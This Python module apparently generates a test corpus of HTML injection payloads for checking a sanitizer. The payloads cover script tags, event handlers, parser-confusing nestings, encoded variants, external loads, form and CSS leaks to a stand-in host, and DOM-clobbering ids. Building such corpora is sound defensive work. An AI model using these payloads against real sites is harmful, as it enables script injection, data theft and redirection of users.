"""Elements and attributes that run, load, send or cover something, in every disguise we know."""

from collections.abc import Iterator
from itertools import product

CALL = "planted(1)"
"""What runs where a payload works: every page that is opened in a browser has this function."""
ELSEWHERE = "//planted.invalid"
"""A host that nothing of ours may ask."""


def _words(text: str) -> tuple[str, ...]:
    return tuple(text.split())


_BREAKS = (
    "",
    '">',
    "'>",
    "-->",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "]]>",
    "</noscript>",
    "*/",
)
_SCRIPTS = (
    f"<script>{CALL}</script>",
    f"<ScRiPt>{CALL}</sCrIpT>",
    f"<script\t>{CALL}</script\n>",
    f"<script/x>{CALL}</script>",
    f"<script src={ELSEWHERE}/a.js></script>",
    f"<script src=data:text/javascript,{CALL}></script>",
    f"<script type=module>{CALL}</script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<script>{CALL}",
    f"<svg><script>{CALL}</script></svg>",
    f"<script>/*<!--*/{CALL}//--></script>",
    f"<<script>{CALL}//<</script>",
)

_FIRING = (
    ("img src=x", "onerror"),
    ("img src=x:x", "onerror"),
    ("image src=x", "onerror"),
    ("svg", "onload"),
    ("svg><g", "onload"),
    ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("svg><set attributeName=x dur=1s", "onbegin"),
    ("svg><image href=x", "onerror"),
    ("math><mtext", "onclick"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("frameset", "onload"),
    ("iframe", "onload"),
    ("video><source", "onerror"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("object data=x", "onerror"),
    ("embed src=x", "onload"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("button autofocus", "onfocus"),
    ("a href=# autofocus", "onfocus"),
    ("p tabindex=1 autofocus", "onfocus"),
    ("details open", "ontoggle"),
    ("marquee", "onstart"),
    ("link rel=stylesheet href=data:,", "onload"),
    ("style", "onload"),
    ("script src=x", "onerror"),
    ("x style=animation-name:x", "onanimationstart"),
    ("dialog open", "onclose"),
    ("form><input type=image src=x", "onerror"),
)
_TAGS = (
    "<{start} {event}={call}>",
    '<{start} {event}="{call}">',
    "<{start} {event}='{call}'>",
    "<{start} {event}=`{call}`>",
    "<{start}/{event}={call}>",
    "<{start}\n{event}\t=\n{call}>",
    '"><{start} {event}={call}>',
    "'><{start} {event}={call} x='",
    "<{start} {event}={call}//",
    "--><{start} {event}={call}>",
    "<{start} {upper}={call}>",
    "<{start} {event}=&#112;lanted&lpar;1&rpar;>",
)
_EVENTS = _words(
    """abort afterprint animationend animationiteration auxclick beforecopy beforeinput beforematch
    beforeprint beforetoggle beforeunload blur canplay change click contentvisibilityautostatechange
    contextmenu copy cuechange cut dblclick drag dragend dragenter dragover drop ended focusin formdata
    fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup message mousedown
    mouseenter mousemove mouseover mouseup mousewheel offline online pagehide paste pointerdown
    pointerenter pointerover pointerrawupdate popstate progress reset resize scroll scrollend search
    seeked select selectstart storage submit suspend timeupdate touchstart transitionend transitionrun
    unhandledrejection unload volumechange waiting webkitanimationend wheel"""
)
_IN_ATTRIBUTES = (
    '" {event}={call} x="',
    "' {event}={call} x='",
    '"{event}={call} autofocus tabindex=1 x="',
    "<b {event}={call}>over</b>",
)

_NESTINGS = (
    '<svg></p><style><a id="</style><img src=1 onerror={call}>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={call}&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={call}>",
    "<math><annotation-xml encoding=text/html><style><img src=x onerror={call}></style></annotation-xml>",
    '<svg><foreignObject><iframe srcdoc="<script>{call}</script>"></foreignObject></svg>',
    "<svg><desc><noscript><img src=x onerror={call}></noscript></desc></svg>",
    '<noscript><p title="</noscript><img src=x onerror={call}>">',
    "<template><img src=x onerror={call}></template>",
    "<listing>&lt;img src=x onerror={call}&gt;</listing>",
    '<xmp><p title="</xmp><img src=x onerror={call}>"></xmp>',
    "<select><style></select><img src=x onerror={call}></style>",
    "<table><td><svg><title><img src=x onerror={call}></title></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x><image href=x onerror={call} /></svg>#x">',
    "<svg><a><animate attributeName=href values=javascript:{call} /><text y=20>x</text></a></svg>",
    "<math href=javascript:{call}>x</math>",
    "<svg><style>@import '{there}/a.css';</style></svg>",
    "<![CDATA[<img src=x onerror={call}>]]>",
    "<!--><img src=x onerror={call}>-->",
    "<!-- --!><img src=x onerror={call}> -->",
    '<?xml-stylesheet href="javascript:{call}"?>',
    "<?><img src=x onerror={call}>?>",
    "<!DOCTYPE x [<!ENTITY y '<img src=x onerror={call}>'>]>&y;",
    "<plaintext><img src=x onerror={call}>",
    "<title><img src=x onerror={call}></title>",
    "<textarea><img src=x onerror={call}></textarea>",
    "&lt;img src=x onerror={call}&gt;",
    "&#60;img src=x onerror={call}&#62;",
    "&amp;lt;script&amp;gt;{call}&amp;lt;/script&amp;gt;",
    "\uff1cscript\uff1e{call}\uff1c/script\uff1e",
    "%3Cscript%3E{call}%3C/script%3E",
    "\\u003cscript\\u003e{call}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{call}",
    "+ADw-script+AD4-{call}+ADw-/script+AD4-",
)
_OPENINGS = ("", "</p>", "<b>", "</main></body></html>", "<p title='", "<!--", "`", '<x y="')

_LOADS = (
    "<img src={there}/a.png>",
    "<img srcset='{there}/a.png 2x'>",
    "<picture><source srcset={there}/a.png><img></picture>",
    "<link rel=preconnect href={there}>",
    "<link rel=dns-prefetch href={there}>",
    "<link rel=prefetch href={there}/a>",
    "<link rel=stylesheet href={there}/a.css>",
    "<link rel=preload as=image imagesrcset='{there}/a.png 1x' href=x>",
    "<link rel=icon href={there}/a.ico>",
    "<link rel=manifest href={there}/a.json>",
    "<style>@import url({there}/a.css);</style>",
    "<style>*{{background:url({there}/a.png)}}</style>",
    '<p style="background:url({there}/a.png)">',
    '<p style="position:fixed;inset:0;background:#fff">over all</p>',
    '<p style="width:expression({call})">',
    '<p style="-moz-binding:url({there}/a.xml#x)">',
    "<style>a[href^='x']{{background:url({there}/leak)}}</style>",
    "<body background={there}/a.png>",
    "<table background={there}/a.png><td background={there}/b.png>",
    "<video poster={there}/a.png></video>",
    "<video src={there}/a.mp4 autoplay></video>",
    "<audio src={there}/a.mp3 autoplay></audio>",
    "<track src={there}/a.vtt default>",
    "<input type=image src={there}/a.png>",
    "<iframe src={there}/></iframe>",
    '<iframe srcdoc="<script>parent.{call}</script>"></iframe>',
    '<iframe src="javascript:parent.{call}"></iframe>',
    "<frameset><frame src={there}/></frameset>",
    "<object data={there}/a.svg></object>",
    '<object data="data:text/html,<script>{call}</script>"></object>',
    "<embed src={there}/a.swf>",
    '<embed src="javascript:{call}">',
    "<applet code=x codebase={there}/></applet>",
    '<meta http-equiv=refresh content="0;url={there}/">',
    '<meta http-equiv=refresh content="0;url=javascript:{call}">',
    '<meta http-equiv=Set-Cookie content="a=b">',
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "<meta charset=utf-7>",
    "<base href={there}/>",
    "<base target=planted>",
    "<form action={there}/><input name=a><button>send</button></form>",
    '<form id=x></form><button form=x formaction="javascript:{call}">send</button>',
    "<form><input formaction={there}/ type=submit></form>",
    '<isindex action="javascript:{call}" type=image>',
    "<a href=/ ping={there}/p>x</a>",
    "<a href={there}/ target=planted rel=opener>x</a>",
    "<a href={there}/ download=a.exe>x</a>",
    '<area href="javascript:{call}">',
    "<svg><image href={there}/a.png /></svg>",
    "<svg><use href={there}/a.svg#x /></svg>",
    "<svg><feImage href={there}/a.png /></svg>",
    '<script type=speculationrules>{{"prefetch":[{{"urls":["{there}/"]}}]}}</script>',
    '<script type=importmap>{{"imports":{{"x":"{there}/a.js"}}}}</script>',
    "<portal src={there}/></portal>",
    "<fencedframe src={there}/></fencedframe>",
    "<img src=x lowsrc={there}/a.png dynsrc={there}/b.png longdesc={there}/c>",
    "<bgsound src={there}/a.mid>",
    "<layer src={there}/a.js></layer>",
    "<q cite={there}/a>x</q>",
    "<div popover id=x>x</div><button popovertarget=x>x</button>",
    "<template shadowrootmode=open><img src={there}/a.png></template>",
)

_CLOBBERED = _words(
    """alert body children cookie createElement currentScript defaultView documentElement domain embeds
    firstChild forms getElementById head images implementation innerHTML links location name nodeName
    parentNode planted querySelector readyState scripts self title top URL write __proto__ constructor
    hasOwnProperty prototype toString valueOf main field results"""
)
_CLOBBERS = (
    "<a id={name} href=x>x</a>",
    "<img name={name}>",
    "<form id={name}><input id={name} name={name}></form>",
    "<form name={name}><input name=attributes></form>",
    "<a id={name}><a id={name} name=url href=cid:{call}></a></a>",
    '## Heading "{name}" {{#{name} .q onclick={call}}}',
)


def scripts() -> Iterator[str]:
    """Script elements, bare and behind whatever may have to be closed first."""
    yield from (f"{before}{script}" for before, script in product(_BREAKS, _SCRIPTS))


def handlers() -> Iterator[str]:
    """Elements that call a handler by themselves, in many ways of writing a tag."""
    for (start, event), tag in product(_FIRING, _TAGS):
        yield tag.format(start=start, event=event, upper=event.upper(), call=CALL)


def events() -> Iterator[str]:
    """Every event there is, out of an attribute and on an element."""
    for event, form in product(_EVENTS, _IN_ATTRIBUTES):
        yield form.format(event=f"on{event}", call=CALL)


def nestings() -> Iterator[str]:
    """Markup that means something else when it is read a second time."""
    yield from (f"{start}{_made(form)}" for start, form in product(_OPENINGS, _NESTINGS))


def loads() -> Iterator[str]:
    """Whatever asks another host, sends the reader or a form there, or covers the page."""
    for form in _LOADS:
        yield _made(form)
        yield f'">{_made(form)}'


def clobbers() -> Iterator[str]:
    """Ids and names that would stand where a script looks for something of the page's own."""
    for name, form in product(_CLOBBERED, _CLOBBERS):
        yield form.format(name=name, call=CALL)


def _made(form: str) -> str:
    return form.replace("{{", "{").replace("}}", "}").replace("{call}", CALL).replace("{there}", ELSEWHERE)
